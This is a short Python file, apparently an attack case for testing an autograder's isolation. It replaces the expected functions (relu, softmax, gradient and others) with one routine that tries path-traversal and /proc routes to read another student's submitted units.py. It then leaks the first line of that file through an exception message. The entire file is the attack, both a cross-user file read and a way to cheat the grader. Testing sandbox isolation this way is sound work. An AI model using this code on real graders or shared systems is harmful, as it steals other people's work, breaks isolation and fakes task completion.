"""Reads what another student handed in, by a path that goes up from here and down again.

Kind: files
Control: reads the answer
Needs: namespace, because the system lets a process read files of the same user
"""

import os


def answer(*args):
    up = "/".join([".."] * 40)
    for start in (up, f"{os.getcwd()}/{up}", "/proc/self/root", "/proc/self/cwd/" + up, "/proc/1/root"):
        try:
            with open(start + "@course@/submitted/ada/00-units/units.py") as file:
                raise ValueError(file.readline())
        except OSError as error:
            last = error
    raise last


relu = softmax = mean_squared_error = gradient = batches = answer
